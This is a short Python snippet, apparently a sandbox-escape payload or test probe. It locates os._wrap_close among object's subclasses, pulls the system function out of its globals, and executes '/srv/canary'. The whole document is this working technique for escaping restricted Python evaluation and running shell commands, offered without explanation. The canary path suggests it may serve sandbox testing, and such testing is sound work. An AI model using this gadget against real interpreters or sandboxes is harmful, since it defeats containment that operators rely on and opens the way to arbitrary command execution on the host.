# reaches: os._wrap_close found among the subclasses of object
(w,) = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"]
w.__init__.__globals__["system"]("/srv/canary")
